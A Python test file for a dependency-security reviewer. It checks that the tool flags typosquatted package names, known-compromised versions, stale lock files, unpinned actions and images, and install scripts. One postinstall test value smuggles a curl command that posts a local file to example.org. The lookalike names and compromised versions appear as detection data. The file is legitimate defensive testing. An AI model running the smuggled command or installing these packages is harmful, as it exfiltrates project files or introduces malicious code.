"""Every format, one change of one file a row: what is reported and, as often, what is not."""

import json
import tomllib
from pathlib import Path

import pytest
from examples import table
from hypothesis import given
from hypothesis import strategies as st
from reviewers.dependencies.trees import found, reviewed

from cli_guard.model import Severity
from cli_guard.repository.between import SnapshotContents, changes_between
from cli_guard.reviewers.dependencies import review
from cli_guard.reviewers.dependencies.incidents import known_bad
from cli_guard.reviewers.dependencies.lock_files import read_listing
from cli_guard.reviewers.dependencies.names import read_names, similar_name
from cli_guard.reviewers.dependencies.reading import formats_of
from cli_guard.reviewers.dependencies.versions import is_in_range, is_major_move
from cli_guard.reviewers.review_input import ReviewInput
from cli_guard.rules.near_names import edits

TABLE = Path(__file__).parent / "changes.toml"
CHANGES = [
    (each["path"], each["before"], each["after"], each["rules"], each.get("beside", {}))
    for each in tomllib.loads(TABLE.read_text("utf-8"))["change"]
]


@table(("path", "before", "after", "rules", "beside"), CHANGES)
def test_change_of_one_file(
    path: str, before: str, after: str, rules: list[str], beside: dict[str, str]
) -> None:
    assert {each.rule for each in found(path, before, after, beside)} == set(rules)


RANGES = [
    ("1.4.2", "^1.2", "npm", True),
    ("2.0.0", "^1.2", "npm", False),
    ("0.3.0", "^0.2.1", "npm", False),
    ("1.2.9", "~1.2.3", "npm", True),
    ("1.3.0", "~1.2.3", "npm", False),
    ("1.4.0", "1.x || >=2.5.0", "npm", True),
    ("2.1.0", "1.x || >=2.5.0", "npm", False),
    ("1.5.0", "1.2.3 - 1.6.0", "npm", True),
    ("3.0", ">=2,<3", "pypi", False),
    ("2.9.1", ">=2,<3,!=2.9", "pypi", True),
    ("1.4.9", "~=1.4.2", "pypi", True),
    ("1.5.0", "~=1.4.2", "pypi", False),
    ("1.4.7", "==1.4.*", "pypi", True),
    ("1.0.9", "1.0", "cargo", True),
    ("2.0.0-rc.1", "^1.0", "cargo", False),
    ("1.1.0-rc.1", "^1.0", "cargo", None),
    ("7.1.3", "~> 7.1.0", "gem", True),
    ("7.2.0", "~> 7.1.0", "gem", False),
    ("1.0", "some-branch", "npm", None),
    ("1.0", "*", "npm", True),
    ("2.2.1", "~2.1", "composer", True),
    ("2.2.1", "~2.1.0", "composer", False),
    ("2.2.1", "~2.1", "npm", False),
]


@table(("version", "wanted", "ecosystem", "answer"), RANGES)
def test_range(version: str, wanted: str, ecosystem: str, answer: bool | None) -> None:
    assert is_in_range(version, wanted, ecosystem) is answer


MAJORS = [
    ("1.9", "2.0", True),
    ("^1.9", "^2.0", True),
    ("==1.9", "==1.10", False),
    (">=1", ">=2", False),
    (">=1,<2", ">=2,<3", True),
    ("2.0", "1.0", False),
    ("2024.1", "2025.1", False),
]


@table(("old", "new", "is_major"), MAJORS)
def test_major_move(old: str, new: str, is_major: bool) -> None:
    assert is_major_move(old, new) is is_major


NAMES = [
    ("pypi", "reqeusts", "requests"),
    ("pypi", "requestss", "requests"),
    ("pypi", "numpi", "numpy"),
    ("pypi", "requests", None),
    ("pypi", "my-own-thing", None),
    ("npm", "expresss", "express"),
    ("npm", "@bable/core", "@babel/core"),
    ("npm", "@babel/cores", None),  # nobody else publishes in this scope
    ("npm", "preact", None),  # one edit from react, and a project of its own
    ("cargo", "serde-jsn", "serde-json"),
    ("cargo", "adler2", None),
    ("go", "requets", None),
    ("npm", "electorn", "electron"),  # two letters swapped
    ("npm", "eelectron", "electron"),
    ("npm", "electon", "electron"),
    ("npm", "crossenv", "cross-env"),
    ("npm", "lodashmerge", "lodash.merge"),
    ("npm", "twilio-npm", "twilio"),
    ("npm", "npm-run-all", None),
    ("npm", "@type/node", "@types/node"),
    ("npm", "@acme/node", None),
    ("pypi", "pythondateutil", "python-dateutil"),
    (
        "maven",
        "org.fasterxml.jackson.core:jackson-core",
        "com.fasterxml.jackson.core:jackson-core",
    ),
    ("maven", "com.apache.commons:commons-lang3", "org.apache.commons:commons-lang3"),
    ("maven", "org.springframwork:spring-core", "org.springframework:spring-core"),
    ("maven", "com.acme.tools:parts", None),
    ("maven", "org.apache.commons:commons-text", None),
    ("maven", "com.google.auto:auto-common", None),
    ("maven", "com.google.auth.extra:auth", None),
    ("maven", "com.google.auht:auth", "com.google.auth:auth"),
    ("go", "github.com/boltdb-go/bolt", "github.com/boltdb/bolt"),
    ("go", "github.com/siruspen/logrus", "github.com/sirupsen/logrus"),
    ("go", "github.com/Sirupsen/logrus", None),
    ("go", "github.com/acme/logrus", None),
    ("actions", "action/checkout", "actions/checkout"),
    ("actions", "acme/checkout", None),
    ("vscode", "ms-pyton.python", "ms-python.python"),
    ("vscode", "acme.python", None),
]


@table(("ecosystem", "name", "popular"), NAMES)
def test_similar_name(ecosystem: str, name: str, popular: str | None) -> None:
    assert similar_name(ecosystem, name) == popular


@given(st.sampled_from(sorted(read_names("pypi-popular.txt"))), st.data())
def test_every_edit_of_a_popular_name_is_seen(name: str, data: st.DataObject) -> None:
    edited = data.draw(st.sampled_from(sorted(set(edits(name)) - {name})))
    known = read_names("pypi-popular.txt") | read_names("similar.txt")
    if len(name) > 5 and edited not in known:
        assert similar_name("pypi", edited) is not None


def test_a_known_bad_version_is_one_of_the_table_only() -> None:
    assert "CVE-2021-44228" in (
        known_bad("maven", "org.apache.logging.log4j:log4j-core", "2.14.1") or ""
    )
    assert known_bad("maven", "org.apache.logging.log4j:log4j-core", "2.17.1") is None
    assert known_bad("npm", "chalk", "5.6.1") and known_bad("npm", "chalk", "^5.6.1")
    assert known_bad("npm", "chalk", "5.6.2") is None
    assert known_bad("npm", "flatmap-stream", "0.1.2")


TRIVY = "aquasecurity/trivy-action"
BAD = [
    # A package of a large attack, one of its versions and one that is not.
    ("npm", "@tanstack/react-router", "1.169.5", "1.169.6"),
    ("pypi", "litellm", "1.82.8", "1.82.6"),
    ("npm", "@nx/devkit", "21.5.0", "21.4.1"),
    ("actions", TRIVY, "ddb9da4475c1cef7d5389062bdfdfbdbd1394648", "0.35.0"),
    ("actions", "Checkmarx/ast-github-action/sub", "v2.3.28", "v2.3.29"),
    (
        "actions",
        "reviewdog/action-setup",
        f"f0d342d24037{'b' * 28}",
        f"3f401fe1d58f{'e' * 28}",
    ),
    ("docker", "mirror.example:5000/aquasecurity/trivy", "0.69.4", "0.69.3"),
    ("docker", "aquasec/trivy", "0.69.5", "latest"),
    ("system", "xz-utils", "5.6.1-1", "5.6.1+really5.4.5-1"),
    ("system", "xz-libs", "5.6.0-r0", "5.6.2-r0"),
]


@table(("ecosystem", "name", "bad", "good"), BAD)
def test_an_incident_is_known_whole(ecosystem: str, name: str, bad: str, good: str) -> None:
    assert known_bad(ecosystem, name, bad)
    assert known_bad(ecosystem, name, good) is None


COMMITS = ["a" * 40, "b" * 40]
LABELS = [
    ("# v4.4.0", "# v4.4.0", True),
    ("# pin @v4.4.0", "#v4.4.0", True),
    ("# v4.4.0", "# v4.4.1", False),
    ("# v4", "# v4", False),  # a tag that moves with each release
    ("# main", "# main", False),
    ("", "", False),
]


@table(("before", "after", "is_told"), LABELS)
def test_an_action_moves_beneath_the_comment_that_names_its_release(
    before: str, after: str, is_told: bool
) -> None:
    step = "jobs:\n  a:\n    steps:\n      - uses: acme/tool@{} {}\n"
    quoted = 'jobs:\n  a:\n    steps:\n      - uses: "acme/tool@{}" {}\n'
    for form in (step, quoted):
        old, new = (
            form.format(*pair) for pair in zip(COMMITS, (before, after), strict=True)
        )
        rules = [each.rule for each in found(".github/workflows/a.yml", old, new, {})]
        assert ("deps-integrity-changed" in rules) is is_told


def test_a_lock_file_is_compared_with_its_manifest_in_every_direction() -> None:
    manifest = '[project]\ndependencies = ["a>={}"]\n'
    lock = '[[package]]\nname = "a"\nversion = "{}"\nsource = {{ registry = "https://packages.example/simple" }}\n'

    def rules(before: tuple[str, str], after: tuple[str, str]) -> list[str]:
        trees = [
            {"pyproject.toml": manifest.format(one), "uv.lock": lock.format(other)}
            for one, other in (before, after)
        ]
        return [each.rule for each in reviewed(*trees).findings]

    assert rules(("1", "1.0"), ("2", "2.1")) == []
    assert rules(("1", "1.0"), ("2", "1.1")) == ["deps-lock-stale"]


UV = """
[[package]]
name = "app"
source = {{ {source} }}
dependencies = [{{ name = "a" }}]
[package.optional-dependencies]
more = [{{ name = "B.b" }}]
[package.metadata]
requires-dist = [{{ name = "a", specifier = ">=1" }}]
[package.metadata.requires-dev]
dev = [{{ name = "pytest" }}]
[[package]]
name = "a"
version = "1.0"
source = {{ registry = "https://packages.example/simple" }}
dependencies = [{{ name = "httpx" }}]
[[package]]
name = "b-b"
version = "1.0"
source = {{ registry = "https://packages.example/simple" }}
[[package]]
name = "httpx"
version = "1.0"
source = {{ registry = "https://packages.example/simple" }}
[[package]]
name = "pytest"
version = "1.0"
source = {{ registry = "https://packages.example/simple" }}
"""
EDITABLE = UV.format(source='editable = "."')
BELOW = UV.format(source='virtual = "lib"')
NPM = json.dumps(
    {
        "packages": {
            "": {"dependencies": {"a": "1"}, "devDependencies": {"d": "1"}},
            "w": {"dependencies": {"b": "1"}},
            **{f"node_modules/{name}": {"version": "1.0.0"} for name in "abd"},
        }
    },
    indent=2,
)
PNPM = """lockfileVersion: '9.0'

importers:

  .:
    dependencies:
      a:
        specifier: 1.0.0
        version: 1.0.0

  w:
    dependencies:
      b:
        specifier: 1.0.0
        version: 1.0.0

packages:

  a@1.0.0:
    resolution: {integrity: sha512-aa}

  b@1.0.0:
    resolution: {integrity: sha512-bb}
"""
BUN = """{
  "lockfileVersion": 1,
  "workspaces": {
    "": {"name": "x", "dependencies": {"a": "1.0.0",},},
    "w": {"name": "w", "dependencies": {"b": "1.0.0",},},
  },
  "packages": {
    "a": ["a@1.0.0", "", {}, "sha512-aa=="],
    "b": ["b@1.0.0", "", {}, "sha512-bb=="],
  }
}
"""
CARGO = """version = 4

[[package]]
name = "a"
version = "1.0.0"
source = "registry+https://packages.example/index"

[[package]]
name = "app"
version = "0.1.0"
dependencies = [
 "a",
]

[[package]]
name = "b"
version = "1.0.0"
source = "registry+https://packages.example/index"
"""
APP = '[package]\nname = "app"\n[dependencies]\n'
MANIFESTS = {
    "cargo": (APP, APP + '{} = "1"\n'),
    "project": (
        '[project]\ndependencies = ["a"]\n',
        '[project]\ndependencies = ["a", "{}"]\n',
    ),
    "group": ("[dependency-groups]\nx = []\n", '[dependency-groups]\nx = ["{}"]\n'),
    "catalog": ("catalog:\n", "catalog:\n  {}: 1.0.0\n"),
    "npm": ("{{}}", '{{"dependencies": {{"{}": "1.0.0"}}}}'),
}
ROOTS = [
    # The lock, the manifest and its table, what it adds, and whether that is stale.
    ("uv.lock", EDITABLE, "pyproject.toml", "project", "httpx", True),
    ("uv.lock", EDITABLE, "pyproject.toml", "project", "b_b", False),
    ("uv.lock", EDITABLE, "pyproject.toml", "group", "httpx", True),
    ("uv.lock", EDITABLE, "pyproject.toml", "group", "pytest", False),
    ("uv.lock", EDITABLE, "lib/pyproject.toml", "project", "httpx", False),
    ("uv.lock", BELOW, "lib/pyproject.toml", "project", "httpx", True),
    ("uv.lock", f"{EDITABLE}\n[[", "pyproject.toml", "project", "httpx", False),
    ("package-lock.json", NPM, "package.json", "npm", "b", True),
    ("package-lock.json", NPM, "package.json", "npm", "a", False),
    ("package-lock.json", NPM, "w/package.json", "npm", "b", False),
    ("package-lock.json", NPM, "v/package.json", "npm", "b", False),
    ("pnpm-lock.yaml", PNPM, "package.json", "npm", "b", True),
    ("pnpm-lock.yaml", PNPM, "package.json", "npm", "a", False),
    ("pnpm-lock.yaml", PNPM, "w/package.json", "npm", "b", False),
    ("pnpm-lock.yaml", PNPM, "w/package.json", "npm", "a", True),
    ("pnpm-lock.yaml", PNPM, "template/package.json", "npm", "c", False),
    ("pnpm-lock.yaml", PNPM, "pnpm-workspace.yaml", "catalog", "b", False),
    ("pnpm-lock.yaml", PNPM, "pnpm-workspace.yaml", "catalog", "c", True),
    ("bun.lock", BUN, "package.json", "npm", "b", True),
    ("bun.lock", BUN, "w/package.json", "npm", "b", False),
    ("bun.lock", BUN, "template/package.json", "npm", "c", False),
    ("Cargo.lock", CARGO, "Cargo.toml", "cargo", "b", True),
    ("Cargo.lock", CARGO, "Cargo.toml", "cargo", "a", False),
]


@table(("lock", "text", "manifest", "kind", "name", "is_stale"), ROOTS)
def test_the_list_of_the_root_package_is_compared(
    lock: str, text: str, manifest: str, kind: str, name: str, is_stale: bool
) -> None:
    before, after = (each.format(name) for each in MANIFESTS[kind])
    rules = {each.rule for each in found(manifest, before, after, {lock: text})}
    assert ("deps-lock-stale" in rules) is is_stale


def test_what_a_lock_file_lacked_before_is_not_told_again() -> None:
    """One that was stale stays so without a word, in whichever of the two files the change is."""
    manifest = '{{"dependencies": {{"a": "{}"}}}}'
    before = {
        "package.json": manifest.format("^2.0.0"),
        "package-lock.json": NPM,
    }
    raised = before | {"package.json": manifest.format("^3.0.0")}
    moved = before | {"package-lock.json": NPM.replace("1.0.0", "1.1.0")}
    first = before | {"package.json": manifest.format("^1.0.0")}
    assert [each.rule for each in reviewed(before, raised).findings] == []
    assert [each.rule for each in reviewed(before, moved).findings] == []
    assert "deps-lock-stale" in [each.rule for each in reviewed(first, raised).findings]


def test_a_manifest_of_a_test_is_told_of_bad_versions_as_advice_and_of_nothing_else() -> (
    None
):
    text = "reqeusts==1\nultralytics==8.3.41\na @ http://files.example.org/a.whl\nb @ git+https://git.example.com/b\n"
    own = found("requirements.txt", "x==1\n", text)
    aside = found("tests/data/requirements.txt", "x==1\n", text)
    assert {each.rule for each in own} == {
        "deps-similar-name",
        "deps-plain-http",
        "deps-source",
        "deps-known-bad",
    }
    assert [(each.rule, each.severity) for each in aside] == [
        ("deps-known-bad", Severity.LOW)
    ]


def test_a_name_with_a_digit_more_is_advice() -> None:
    names = "reqeusts==1\nrequests7==1\n"
    severities = {
        each.message.split()[0]: each.severity
        for each in found("requirements.txt", "x==1\n", names)
    }
    assert severities == {"reqeusts": Severity.HIGH, "requests7": Severity.LOW}


PIN = "8e5e7e5ab8b370d6c329ec480221332ada57f0ab"
USES = [
    # What each job used before and after, and how much the loss weighs.
    ([f"acme/x@{PIN}"], ["acme/x@v2"], [Severity.HIGH]),
    ([f"actions/checkout@{PIN}"], ["actions/checkout@v4"], [Severity.MEDIUM]),
    ([f"acme/x@{PIN}"], [f"acme/x@{PIN}", "acme/x@v2"], []),
    ([f"acme/x@{PIN}"], ["acme/x@v2", f"acme/x@{PIN}"], []),
    ([f"acme/x@{PIN}"] * 2, [f"acme/x@{PIN}", "acme/x@v2"], [Severity.HIGH]),
    (["acme/x@v2", f"acme/x@{PIN}"], ["acme/x@v2", "acme/x@v2"], [Severity.HIGH]),
    (["acme/x@v2", f"acme/x@{PIN}"], ["acme/x@v2", f"acme/x@{PIN}", "acme/x@v2"], []),
]


@table(("before", "after", "severities"), USES)
def test_the_use_that_lost_its_commit_is_told_from_a_new_one(
    before: list[str], after: list[str], severities: list[Severity]
) -> None:
    texts = [
        "jobs:\n"
        + "".join(
            f"  job{at}:\n    steps:\n      - uses: {use}\n" for at, use in enumerate(uses)
        )
        for uses in (before, after)
    ]
    lost = found(".github/workflows/a.yml", *texts)
    assert [each.severity for each in lost] == severities
    assert all("uses: owner/name@" in each.remedy for each in lost)


def test_a_script_of_one_s_own_package_is_advice_for_its_author() -> None:
    before, after = ('{"scripts": {}}', '{"scripts": {"postinstall": "node setup.js"}}')
    (own,) = found("package.json", before, after)
    assert own.rule == "deps-install-script" and "prepack" in own.remedy
    (allowed,) = found("package.json", "{}", '{"trustedDependencies": ["esbuild"]}')
    assert "ignore-scripts" in allowed.remedy


@table(
    ("was", "script", "is_told"),
    [
        ("php artisan clear", "php artisan discover --ansi", False),
        ("node ./setup.js --old && husky", "husky && node ./setup.js --new", False),
        ("node setup.js", "node other.js", True),
        ("node setup.js", "node setup.js other.js", True),
        ("node setup.js", "node setup.js\\ncurl -d @other.js example.org", True),
        ("node setup.js", "php setup.js", True),
        ("node setup.js", "node -r ./other.js setup.js", True),
        ("npm run build", "npm run other", True),
        ("make all", "make other", True),
    ],
)
def test_a_script_may_hand_other_words_to_the_file_that_it_ran(
    was: str, script: str, is_told: bool
) -> None:
    beside = dict.fromkeys(("artisan", "setup.js", "other.js", "run", "make"), "code")
    before, after = (
        f'{{"scripts": {{"postinstall": "{each}"}}}}' for each in (was, script)
    )
    assert bool(found("package.json", before, after, beside)) is is_told


DIGEST = f"@sha256:{'ab' * 32}"
IMAGES = [
    (f"FROM python:3.12{DIGEST}", "FROM python:3.13", Severity.MEDIUM),
    (f"FROM acme/base:1{DIGEST}", "FROM acme/base:2", Severity.HIGH),
    (f"ARG X=acme/base:1{DIGEST}\nFROM $X", "ARG X=acme/base:2\nFROM $X", Severity.HIGH),
    (
        f"FROM --platform=linux/amd64 acme/b:1{DIGEST}",
        "FROM --platform=linux/amd64 \\\n acme/b:1",
        Severity.HIGH,
    ),
    ("FROM a/b:1", f"FROM --platform=$P a/b:1{DIGEST}", None),
    (f"FROM a/b:1{DIGEST} AS x", f"FROM a/b:1{DIGEST} AS x\nFROM X AS y\nFROM y", None),
    (f"FROM a/b:1{DIGEST}", f"ARG D={DIGEST}\nFROM a/b:1${{D}}", None),
    (f"ARG X=a/b:1{DIGEST}\nFROM c/d:1", "ARG X=a/b:2\nFROM c/d:1", None),
]


@table(("before", "after", "severity"), IMAGES)
def test_a_dockerfile_is_read_as_docker_reads_it(
    before: str, after: str, severity: Severity | None
) -> None:
    lost = found("Dockerfile", f"{before}\n", f"{after}\n")
    assert [each.severity for each in lost] == ([severity] if severity else [])


def test_an_address_is_shown_without_its_user_and_its_query() -> None:
    (one,) = found(
        "requirements.txt",
        "x==1\n",
        "x==1\na @ https://me:word@files.example.org/a.whl?token=abc\n",
    )
    assert "files.example.org/a.whl" in one.message
    assert "word" not in one.message and "abc" not in one.message


def test_both_sides_of_a_conflict_are_read() -> None:
    sides = '"a": "1.0.0"\n=======\n"a": "http://files.example.org/a.tgz"'
    text = f'{{"dependencies": {{\n<<<<<<< ours\n{sides}\n>>>>>>> theirs\n}}}}'
    assert "deps-plain-http" in {
        each.rule
        for each in found("package.json", '{"dependencies": {"a": "1.0.0"}}', text)
    }


BROKEN = [
    ("package.json", '{"dependencies": {"a": '),
    ("pyproject.toml", "[project\ndependencies = ["),
    ("pom.xml", "<!DOCTYPE a [<!ENTITY b 'c'>]><project><dependency>&b;"),
    ("compose.yaml", "services: {a: [}"),
    ("requirements.txt", "\ud800==1\n\x00\x1b[31m==2\n"),
    ("package-lock.json", "\ufffd" * 100),
]


@table(("path", "text"), BROKEN)
def test_what_is_broken_hides_nothing_else(path: str, text: str) -> None:
    after = {path: text, "sub/requirements.txt": "a @ http://files.example.org/a.whl\n"}
    report = reviewed({}, after)
    assert "sub/requirements.txt" in {each.path for each in report.findings}


LONG = [
    ("requirements.txt", "a" * 1_000_000 + "==1\nb @ http://files.example.org/b.whl\n"),
    ("Dockerfile", "FROM " + "a/" * 2_400 + "\nFROM " + "--x " * 1_200 + "a\n"),
    ("build.gradle", "maven { " + " " * 4_900 + "\nimplementation(" + "(" * 4_800 + "\n"),
    ("package.json", '{"dependencies": ' * 3_000),
    ("go.sum", "\n".join(f"example.org/p{n} v1.0.0 h1:{n}=" for n in range(20_000))),
    ("requirements.txt", "\n".join(f"reqeust{n}==1" for n in range(20_000))),
]


@pytest.mark.parametrize(("path", "text"), LONG, ids=[path for path, _ in LONG])
def test_what_is_long_ends_in_time_and_what_is_left_out_is_named(
    path: str, text: str
) -> None:
    before = {path: "\n"}
    after = {path: text}
    subject = ReviewInput(
        "pre-commit",
        changes_between(before, after),
        SnapshotContents(before, after),
    )
    assert bool(review(subject).skipped) is (len(max(text.split("\n"), key=len)) > 5_000)


def test_a_lock_file_without_line_ends_is_read() -> None:
    entries = {f"node_modules/p{n}": {"version": "1.0.0"} for n in range(500)}
    before = json.dumps({"packages": entries})
    bad = {"version": "1.0.1", "resolved": "http://files.example.org/p7-1.0.1.tgz"}
    after = json.dumps({"packages": entries | {"node_modules/p7": bad}})
    report = reviewed({"package-lock.json": before}, {"package-lock.json": after})
    assert [each.rule for each in report.findings] == ["deps-plain-http"]
    assert not report.skipped


@table(
    ("lock", "manifest", "text"),
    [
        ("package-lock.json", "package.json", '{"dependencies": {"p": "^1.0.0"}}'),
        (
            "poetry.lock",
            "pyproject.toml",
            '[project]\nname = "x"\ndependencies = ["p>=1"]\n',
        ),
        ("Pipfile.lock", "Pipfile", '[packages]\np = "*"\n'),
    ],
)
def test_a_lock_file_on_one_line_beside_its_manifest_ends_no_review(
    lock: str, manifest: str, text: str
) -> None:
    assert (
        reviewed(
            {manifest: text}, {manifest: text, lock: '{"p": {"version": "1.0.0"}}'}
        ).findings
        == ()
    )


@given(st.text(max_size=300), st.sampled_from(sorted({path for path, *_ in CHANGES})))
def test_any_text_is_read_without_an_error(text: str, path: str) -> None:
    assert formats_of(path)
    for entry in read_listing(path, text).every():
        assert 1 <= entry.line <= entry.last <= text.count("\n") + 1


IMPORTS = [
    (
        "src/main.rs",
        "use rand::Rng;\n",
        "Cargo.toml",
        "[dependencies]\nserde = '1'\n",
        True,
    ),
    (
        "src/main.rs",
        "use rand::Rng;\n",
        "Cargo.toml",
        "[dependencies]\nrand = '0.8'\n",
        False,
    ),
    (
        "src/main.rs",
        "mod rand;\nuse rand::Rng;\n",
        "Cargo.toml",
        "[dependencies]\nserde = '1'\n",
        False,
    ),
    (
        "src/main.rs",
        "extern crate rand_core as rand;\nuse rand::Rng;\n",
        "Cargo.toml",
        "[dependencies]\nrand_core = '0.6'\n",
        False,
    ),
    (
        "src/a.ts",
        "import axios from 'axios'\n",
        "package.json",
        '{"dependencies": {"react": "18"}}',
        True,
    ),
    (
        "src/a.ts",
        "import axios from 'axios'\n",
        "package.json",
        '{"dependencies": {"axios": "1"}}',
        False,
    ),
    (
        "src/a.ts",
        "import fs from 'fs'\nimport a from '@/a'\n",
        "package.json",
        '{"dependencies": {"axios": "1"}}',
        False,
    ),
    (
        "test/a.test.ts",
        "import axios from 'axios'\n",
        "package.json",
        '{"dependencies": {"react": "18"}}',
        False,
    ),
    (
        "app.py",
        "try:\n    import orjson\nexcept ImportError:\n    pass\n",
        "requirements.txt",
        "flask\n",
        False,
    ),
    ("app.py", "from bs4 import x\n", "requirements.txt", "beautifulsoup4==4\n", False),
    ("app.py", "from bs4 import x\n", "requirements.txt", "flask==3\n", True),
]


@table(("path", "text", "manifest", "entries", "is_missing"), IMPORTS)
def test_import(
    path: str, text: str, manifest: str, entries: str, is_missing: bool
) -> None:
    own = [each.rule for each in found(path, "\n", text, {manifest: entries})]
    assert own == ["deps-import-missing"] * is_missing
